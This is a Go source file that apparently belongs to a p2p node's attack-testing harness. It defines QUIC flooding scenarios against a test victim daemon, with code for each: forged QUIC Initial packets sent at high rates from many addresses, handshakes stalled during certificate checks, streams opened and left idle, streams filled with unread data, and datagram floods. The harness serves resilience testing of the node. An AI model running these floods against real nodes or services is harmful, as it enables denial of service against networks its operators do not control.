package attack

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify"
	transport "github.com/libp2p/go-libp2p/p2p/transport/quic"
	"github.com/libp2p/go-libp2p/p2p/transport/quicreuse"
	"github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"
	"github.com/quic-go/quic-go"
	"golang.org/x/net/ipv4"

	"p2pnode/node/datadir"
)

// packets attacks with what peers send over QUIC, which has no connection under its streams.
func packets() Scenario {
	return Scenario{
		Name: "packets", Daemons: true,
		About: "sends over QUIC, from 256 identities: random bytes, hundreds of streams without a word, streams full of what nobody reads, and packets that belong to no stream, also such that each is answered",
		Run:   onField(sociable, overQUIC("packets", 64, pester)),
	}
}

// hellos attacks with handshakes over QUIC that nobody ends.
func hellos() Scenario {
	return Scenario{
		Name: "hellos", Daemons: true,
		About: "begins handshakes over QUIC from 256 addresses, up to ten a second from each, and never ends one",
		Run:   onField(sociable, overQUIC("hellos", 256, greet)),
	}
}

// calls attacks with packets that look as if a handshake began, or went on.
func calls() Scenario {
	return Scenario{
		Name: "calls", Daemons: true,
		About: "sends 10,000 first packets of QUIC a second from 256 addresses, of which nothing comes, half of them as if they went on after an answer",
		Run:   onField(sociable, overQUIC("calls", 256, hail)),
	}
}

// overQUIC makes a scenario of bars 1 and 2, in which the honest daemons listen over QUIC too and
// 256 identities come over QUIC alone, each until ctx ends; with --quick 64. While that goes on,
// newcomers come over TCP, and then others that have only QUIC.
func overQUIC(name string, addresses int, do func(ctx context.Context, i int, s *stranger)) func(context.Context, *field) ([]Bar, error) {
	return func(ctx context.Context, f *field) ([]Bar, error) {
		if err := f.learning(ctx, f.several(3, 4), func(c *datadir.Config) { c.Listen = append(c.Listen, quicOf(c.Listen[0])) }); err != nil {
			return nil, err
		}
		ordinary, err := f.newcomers(f.several(2, 10), nil)
		if err != nil {
			return nil, err
		}
		others, err := f.newcomers(f.several(2, 10), func(c *datadir.Config) {
			c.Listen[0], c.Bootstrap[0] = quicOf(c.Listen[0]), quicOf(c.Bootstrap[0])
		})
		if err != nil {
			return nil, err
		}
		for _, p := range others {
			if _, err := p.host.Run("nft", "table ip filter { chain out { type filter hook output priority filter; ip protocol tcp drop; }; }"); err != nil {
				return nil, err
			}
		}
		f.victim().addr = quicOf(f.victim().addr)
		var all []*stranger
		for i := range f.several(64, 256) {
			s, err := f.identity(libp2p.DisableRelay(), f.overQUIC(raid(i%f.several(min(addresses, 16), addresses))))
			if err != nil {
				return nil, err
			}
			all = append(all, s)
		}
		return f.flood(ctx, name, func(ctx context.Context) {
			each(ctx, all, func(i int, s *stranger) { do(ctx, i, s) })
		},
			func() ([]Bar, error) { return f.admitted(ctx, name+", over TCP", ordinary) },
			func() ([]Bar, error) { return f.admitted(ctx, name+", over QUIC", others) })
	}
}

// quicOf is the address over QUIC beside one over TCP.
func quicOf(addr string) string {
	return strings.Replace(addr, fmt.Sprintf("/tcp/%d", daemonPort), fmt.Sprintf("/udp/%d/quic-v1", daemonPort), 1)
}

// socket opens a socket at an address of the attacker.
func (f *field) socket(from netip.Addr) (c *net.UDPConn, err error) {
	err = f.attacker.Do(func() error {
		c, err = net.ListenUDP("udp4", &net.UDPAddr{IP: from.AsSlice()})
		return err
	})
	return c, err
}

// overQUIC makes an identity call over QUIC, from an address of the attacker. All its packets say
// that the way is crowded, of which QUIC tells at once.
func (f *field) overQUIC(from netip.Addr) libp2p.Option {
	return libp2p.ChainOptions(libp2p.Transport(transport.NewTransport),
		libp2p.QUICReuse(quicreuse.NewConnManager, quicreuse.OverrideListenUDP(func(string, *net.UDPAddr) (net.PacketConn, error) {
			const crowded = 3 // the mark of RFC 3168
			c, err := f.socket(from)
			if err != nil {
				return nil, err
			}
			return struct{ net.PacketConn }{c}, ipv4.NewPacketConn(c).SetTOS(crowded)
		})))
}

// pester does one of five things over a connection, and connects again when that is lost.
func pester(ctx context.Context, i int, s *stranger) {
	do := []func(context.Context, network.Conn){1: hush, 2: pour, 3: toss, 4: nudge}[i%5]
	if do == nil {
		babble(ctx, i, s)
		return
	}
	victim := s.field.victim()
	for s.meet(ctx, victim) == nil {
		for _, c := range s.Network().ConnsToPeer(victim.id) {
			do(ctx, c)
		}
		_ = rest(ctx, refused)
	}
}

// opened opens a stream, if the victim lets it soon.
func opened(ctx context.Context, c network.Conn) (network.Stream, error) {
	limited, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	return c.NewStream(limited)
}

// hush opens as many streams as it is let, and says nothing on them for a while. QUIC tells of a
// stream with its first byte.
func hush(ctx context.Context, c network.Conn) {
	for range 256 {
		stream, err := opened(ctx, c)
		if err != nil {
			break
		}
		defer stream.Reset()
		_, _ = stream.Write([]byte{19})
	}
	_ = rest(ctx, 5*time.Second)
}

// pour fills a stream on which the victim says who it is, and reads nothing.
func pour(ctx context.Context, c network.Conn) {
	stream, err := opened(ctx, c)
	if err != nil {
		return
	}
	defer stream.Reset()
	_ = stream.SetWriteDeadline(time.Now().Add(5 * time.Second))
	_, _ = stream.Write(slices.Concat(framed([]byte("/multistream/1.0.0\n")), framed([]byte(identify.ID+"\n")), make([]byte, 1<<20)))
}

// toss sends packets that belong to no stream, until the connection is lost.
func toss(ctx context.Context, c network.Conn) {
	var under *quic.Conn
	for c.As(&under) && ctx.Err() == nil && under.SendDatagram([]byte{0}) == nil {
	}
}

// nudge sends packets that belong to no stream one at a time, so that each is answered.
func nudge(ctx context.Context, c network.Conn) {
	var under *quic.Conn
	for c.As(&under) && rest(ctx, time.Second/2500) == nil && under.SendDatagram([]byte{0}) == nil {
	}
}

// hail sends packets with which connections begin, to an ID as a client makes it, or one as the
// victim does, with what is no token of its own. What is encrypted in them is nothing.
func hail(ctx context.Context, i int, s *stranger) {
	to, err := manet.ToNetAddr(multiaddr.StringCast(strings.Split(s.field.victim().addr, "/quic-v1")[0]))
	if err != nil {
		return
	}
	c, err := s.field.socket(raid(i))
	if err != nil {
		return
	}
	defer c.Close()
	const shortest = 1200
	called, token := 8, 0
	if i%2 == 1 {
		called, token = 4, 60
	}
	head := slices.Concat([]byte{0xc3, 0, 0, 0, 1, byte(called)}, make([]byte, called), []byte{0, byte(token)}, make([]byte, token))
	length := shortest - len(head) - 2
	packet := slices.Concat(head, []byte{0x40 | byte(length>>8), byte(length)}, make([]byte, length))
	for rest(ctx, time.Duration(len(s.field.identities))*time.Second/10_000) == nil {
		_, _ = rand.Read(packet[6:][:called])
		_, _ = rand.Read(packet[len(packet)-length:])
		_, _ = c.WriteTo(packet, to)
	}
}

// greet begins handshakes, never comes to the end of checking the victim's certificate, and does
// not say so.
func greet(ctx context.Context, i int, s *stranger) {
	to, err := manet.ToNetAddr(multiaddr.StringCast(strings.Split(s.field.victim().addr, "/quic-v1")[0]))
	if err != nil {
		return
	}
	for ctx.Err() == nil {
		if c, err := s.field.socket(raid(i)); err == nil {
			limited, cancel := context.WithTimeout(ctx, time.Second/4)
			check := func([][]byte, [][]*x509.Certificate) error {
				<-limited.Done()
				return c.Close()
			}
			at := &quic.Transport{Conn: c}
			_, _ = at.Dial(limited, to, &tls.Config{NextProtos: []string{"libp2p"}, InsecureSkipVerify: true, VerifyPeerCertificate: check}, nil)
			cancel()
			_ = c.Close() // before the transport, which would say that it closes
			_ = at.Close()
		}
		_ = rest(ctx, refused)
	}
}
